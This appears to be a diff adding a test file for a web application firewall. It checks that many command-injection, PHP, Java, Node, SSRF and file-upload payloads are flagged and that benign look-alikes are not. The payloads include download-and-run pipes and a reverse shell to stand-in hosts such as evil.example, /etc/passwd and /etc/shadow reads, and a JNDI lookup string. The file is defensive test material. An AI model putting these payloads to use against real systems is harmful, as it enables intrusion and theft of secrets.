@@ -1,0 +1,91 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { everywhere, inspect, type Req } from './helpers.js';
+
+// Command, file, PHP, Java, Node and SSRF classes added for the CRS 930–944 families: each class has real payloads
+// (attacks at the default paranoia) and benign look-alikes that must stay below the threshold.
+
+const ATTACKS: Record<string, string[]> = {
+  'shell quoting and expansion evasions': [
+    "'wh'oami", "'i'fconfig", '"w"get http://evil.example/x', 'c\\url evil.example', '\\ls -la', "ti''me curl evil.example",
+    'una$$me -a', 'www.example.com;c$!at /et$!c/pas$!swd', 'x;c$_at /etc/hostname', 'pi``ng 127.0.0.1', 'pi$()ng 127.0.0.1', 'c\\\nat /etc/passwd',
+  ],
+  'prefix commands and interpreters': ['nohup who', 'strace id', 'sudo -u www-data id', 'echo "id" | tr x o | sh #', 'curl -s evil.example/x | bash', '$SHELL -c "id"', '${BASH} -i'],
+  'brace expansion': ['{,ifconfig}', '{,ifconfig,eth0}', '{l,-lh}s', 'c{a,oun}t /etc/hostname', '{,ip,a}', '{,$"whoami",}'],
+  'reverse shells and redirection': ['d=/dev;(sh)0>$d/tcp/203.0.113.9/777', '>/tmp/payload', '>> /etc/cron.d/job'],
+  'Windows cmd and PowerShell': ['IF red==red echo test', 'if (1) equ (1) echo hey', 'if [AA] == [AA] echo same', 'if not "A%1" == "A" (', ';iwmi -class Win32_process -name Create -ArgumentList cmd', 'Invoke-WebRequest -Uri http://evil.example/a.ps1', 'bcdboot /r file.txt'],
+  'more binaries': [';htop', '&aptitude', 'zstdcat /var/log/app.zst', 'bsdtar -xf /tmp/x.tar', 'lwp-download http://evil.example/x'],
+  'mail protocol commands': ['\r\nMAIL FROM:<a@b.example>', '\nRCPT TO:<postmaster@b.example>', '\nEHLO evil.example', '\r\na001 EXAMINE INBOX', '\r\nA283 SEARCH TEXT "x"', '\r\nd store 2 +FLAGS (\\Deleted)', '\nRETR 123', '\nAPOP user 7d0a3bd8e5b2abcfb3e256633c23b891'],
+  'PHP calls and evasions': [
+    'system(whoami)', 'exec #comment\n (blah)', 'touch/*a\nb*/()', 'checkdate/*x*/()', 'FOOgzinflate()', 'curl_init()', '"system"(ls);', '(system)(ls);',
+    "define('x', 'sys' . 'tem');(x)/* c */('uname');", "(z)[0][0]('uname');", '$__[$_[1]](7)', '$_aB_4c[@5]/*wat*/[@d] ()', '$ {@_.__}(31);', '$a //x\n()',
+    '[php]echo "test"', '{php}test{/php}', 'ssh2.sftp://user:pass@example.com:22/x',
+  ],
+  'Java': ['java.Runtime', 'java.evil.ProcessBuilder', 'rO0ABQ', 'KztAAU', '${jndi:ldap&#00000000000000000000000058;//evil.example/a}'],
+  'Node, Ruby and Perl': ['while(Infinity);', 'while(this)', 'while(new Date);', 'while(!NaN)', 'process[mainModule', 'Process.spawn("id")', 'IO.popen("id")', "@{[system 'id']}", '{"x":"$7:Module:prototype:_compile"}'],
+  'SSRF spellings': ['http:127.0.0.1', 'http:/2852039166', 'http:0xA9FEA9FE', 'http:[::ffff:a9fe:a9fe]', 'http://google.com:80 &@127.0.0.1:22/# @google.com:80/', 'https://metadata.packet.net/userdata'],
+  'files': ['/../etc/hostname', 'jar:http://evil.example/b.zip!/a.class'],
+};
+
+/** Requests whose payload is not a plain field value. */
+const REQUESTS: [string, Req][] = [
+  ['PHP session file upload', { headers: { 'x-filename': 'sess_d8ew88tqmabdcokhumchy8htqm' } }],
+  ['PHP upload with a space', { headers: { 'x-filename': 'photo. php' } }],
+  ['PHP double extension', { headers: { 'x-filename': 'test.php.jpg' } }],
+  ['JSP upload with a space', { headers: { 'x-filename': 'shell. jsp' } }],
+  ['secrets in a hidden directory', { path: '/.fabric/fabric.env' }],
+  ['log file by URL', { path: '/wp-content/error.log' }],
+  ['referer that is a file path', { headers: { referer: '/etc/shadow' } }],
+  ['session id from another site', { query: 'weblogicsession=abc123', headers: { referer: 'https://attacker.example/' } }],
+  ['property path from __proto__', { headers: { cookie: 'prefs=__proto__.isAdmin=1' } }],
+  ['ORM lookup on a password', { body: JSON.stringify({ password__startswith: 'a' }), contentType: 'application/json' }],
+  ['SSRF with ideographic dots', { query: `u=${encodeURIComponent('http://169\u3002254\u3002169\u3002254/')}` }],
+  ['Java stream magic re-encoded as UTF-8', { body: 'test=\xc2\xac\xc3\xad\x00\x05\r\n', contentType: 'application/x-www-form-urlencoded' }],
+];
+
+const BENIGN: string[] = [
+  "O'keefe's", 'Size: 8"x11"', "That's two \"O\"s in goose", "''that's the joke''.jpeg", "'curl' is failing on my laptop", 'who is on call', 'time who knows',
+  'sudo make me a sandwich', 'cat dog', 'Pick {red,green,blue}', 'file{1,2}.txt', 'Regex a{2,3}', 'Price $5 and $-2 discount', 'C:\\Users\\me\\Desktop',
+  'if x == y then z', 'Get-started guide', 'add-ons -- reviews', 'Data shows growth\nList 3 items\nQuit smoking', 'Meeting notes\n1 copy of the report\n2 select the plan',
+  'Hi,\nUSER guide is outdated', 'the system(s) we use', 'Section 5(a)(1) applies', 'see (a)(b) below', 'console log shows nothing',
+  'java.util.List is an interface', 'Runtime error in java.lang.RuntimeException', 'while we wait', 'while (i < 10) i++', 'process the refund',
+  'localhost is fine for dev', '> /tmp is full, please clean it', 'name__icontains', 'https://example.com/help', 'jar of cookies: 3',
+  '../guide/setup.md', '/api/v1/users/../users/42', 'Use ${PORT:-3000}', 'The {php} tag is deprecated',
+];
+
+for (const [name, payloads] of Object.entries(ATTACKS)) {
+  test(`${name}: attack payloads are flagged`, () => {
+    for (const p of payloads) {
+      for (const r of everywhere(p)) {
+        const res = inspect(r);
+        assert.ok(res.attack, `not flagged: ${JSON.stringify(p)} (${JSON.stringify(r).slice(0, 80)}) → ${JSON.stringify(res.findings)}`);
+      }
+    }
+  });
+}
+
+test('payloads outside field values: uploads, URL paths, referers, cookies, keys', () => {
+  for (const [name, r] of REQUESTS) {
+    const res = inspect(r);
+    assert.ok(res.attack, `${name} not flagged → ${JSON.stringify(res.findings)}`);
+  }
+});
+
+test('benign look-alikes of the new classes are not flagged at the default paranoia', () => {
+  for (const b of BENIGN) {
+    for (const r of everywhere(b)) {
+      const res = inspect(r);
+      assert.ok(!res.attack, `flagged: ${JSON.stringify(b)} → ${JSON.stringify(res.findings)}`);
+    }
+  }
+  // ordinary URL paths and hidden directories servers legitimately serve
+  for (const path of ['/.well-known/openid-configuration', '/.netlify/functions/checkout', '/api/v1/logs/error', '/docs/errors.html']) assert.ok(!inspect({ path }).attack, path);
+  // one ordinary ORM lookup is a filter API; it counts only at paranoia 2 (and alone does not block there)
+  assert.ok(!inspect({ query: 'name__icontains=bob' }).attack);
+  assert.ok(!inspect({ query: 'name__icontains=bob' }, { paranoia: 2 }).attack);
+  // a long ORM relation walk is high (4): it blocks from paranoia 2
+  const walk: Req = { query: 'created_by__departments__employees__user__username__startswith=p' };
+  assert.ok(!inspect(walk).attack && inspect(walk, { paranoia: 2 }).attack);
+  // the same session id with the site's own referer is a normal link
+  assert.ok(!inspect({ query: 'weblogicsession=abc123', headers: { referer: 'https://api.example.com/login' } }).attack);
+});
